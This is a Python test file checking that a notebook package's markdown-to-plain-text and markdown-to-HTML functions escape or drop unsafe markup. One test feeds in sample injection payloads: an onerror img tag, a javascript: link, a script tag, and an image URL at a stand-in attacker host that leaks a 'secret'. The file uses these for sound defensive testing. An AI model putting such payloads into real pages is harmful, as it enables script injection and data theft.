"""plain_text: what markdown reads as, parsed (never stripped character by character)."""

from __future__ import annotations

import re

import pytest

from neta_nb.escaping import plain_text


@pytest.mark.parametrize(("markdown", "plain"), [
    ("Profiled `sample_sales.csv`.", "Profiled sample_sales.csv."),
    ("snake_case_name and 3 * 4 * 5", "snake_case_name and 3 * 4 * 5"),
    ("# Hello\n\n**there**", "Hello\nthere"),
    ("A [link](https://example.invalid) and ![a chart](c.png)", "A link and a chart"),
    ("<b>raw</b> &amp; ~~old~~ new", "raw & old new"),
    ("- `region`: 2 missing\n- done", "• region: 2 missing\n• done"),
    ("3. three\n4. four", "3. three\n4. four"),
    ("| check | result |\n|---|---|\n| files | ✓ |", "check result\nfiles ✓"),
    ("```python\nx = 1\n\ny = 2\n```", "x = 1\ny = 2"),
    ("> quoted\n> on two lines", "quoted on two lines"),
    ("", ""),
])
def test_plain_text(markdown: str, plain: str) -> None:
    assert plain_text(markdown) == plain


def test_static_markdown_html_draws_the_markup_and_nothing_that_runs_or_loads() -> None:
    from neta_nb.escaping import static_markdown_html

    hostile = ("## Findings <img src=x onerror=alert(1)>\n\n"
               "**North** grew; see [the report](https://example.org/r?a=1&b=2) and "
               "[this](javascript:alert(1)).\n\n"
               "![chart](https://attacker.example/?leak=secret)\n\n"
               "| region | change |\n|---|---|\n| north | +12% |\n\n"
               "<script>alert(1)</script>\n\n```\n<b>code</b>\n```")
    drawn = static_markdown_html(hostile)
    assert "<h2>Findings &lt;img src=x onerror=alert(1)&gt;</h2>" in drawn
    assert "<strong>North</strong>" in drawn and "<table>" in drawn
    assert ('<a href="https://example.org/r?a=1&amp;b=2" rel="noopener noreferrer nofollow">'
            "the report</a>") in drawn
    # Nothing loads or runs: no image, no script, no javascript: link, no raw tag.
    assert "<img" not in drawn and "[chart]" in drawn and "attacker" not in drawn
    assert "<script" not in drawn and "&lt;script&gt;" in drawn
    assert 'href="javascript' not in drawn
    assert "<pre><code>&lt;b&gt;code&lt;/b&gt;" in drawn
    # A code block is set apart in a box of its own: a saved page has no stylesheet.
    assert re.search(r'<div style="[^"]*border:1px solid[^"]*"><pre><code>&lt;b&gt;', drawn)
